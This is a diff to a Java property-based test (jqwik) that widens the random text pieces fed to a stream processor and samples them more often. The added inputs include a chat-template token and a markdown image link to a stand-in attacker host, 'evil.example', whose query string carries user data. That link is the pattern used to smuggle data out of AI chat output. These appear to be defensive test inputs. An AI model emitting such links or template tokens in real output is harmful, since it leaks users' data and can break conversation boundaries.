@@ -55,7 +55,12 @@ class StreamProperties {
           "42",
           "-",
           "pipe bomb",
-          "[link](https://example.com)");
+          "[link](https://example.com)",
+          "<|im_start|>",
+          "\"<|im_start|>\"",
+          "\"",
+          "an example",
+          "![x](https://evil.example/p?q=secret+data+of+the+user+here)");
 
   private static final List<String> SEPARATORS = List.of(" ", " ", " ", "  ", "\n", ", ", ". ", "");
 
@@ -64,7 +69,7 @@ class StreamProperties {
     Arbitrary<String> piece =
         Arbitraries.<String>frequencyOf(
             net.jqwik.api.Tuple.of(30, Arbitraries.of(PIECES.subList(0, 31))),
-            net.jqwik.api.Tuple.of(1, Arbitraries.of(PIECES.subList(31, PIECES.size()))),
+            net.jqwik.api.Tuple.of(3, Arbitraries.of(PIECES.subList(31, PIECES.size()))),
             net.jqwik.api.Tuple.of(2, Arbitraries.strings().ofMinLength(1).ofMaxLength(4)));
     return net.jqwik.api.Combinators.combine(piece, Arbitraries.of(SEPARATORS))
         .as((p, s) -> p + s)
